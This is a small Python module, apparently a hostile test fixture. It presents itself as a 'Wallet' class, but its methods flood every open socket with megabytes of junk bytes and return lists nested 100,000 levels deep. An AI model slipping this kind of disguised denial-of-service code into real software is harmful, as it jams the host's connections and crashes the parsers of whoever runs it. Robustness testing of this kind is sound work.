"""Floods every socket it holds with an endless frame, and answers with values nested too deep."""

import os
import stat


def _flood():
    chunk = b"\x7f" * (1 << 20)
    for fd in range(3, 256):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue
        except OSError:
            continue
        try:
            os.set_blocking(fd, False)
            for _ in range(64):
                os.write(fd, chunk)
        except OSError:
            pass


def _deep():
    value = []
    for _ in range(100_000):
        value = [value]
    return value


class Wallet:
    def __init__(self):
        self.balance = _deep()

    def deposit(self, amount):
        _flood()
        return amount

    def withdraw(self, amount):
        return _deep()
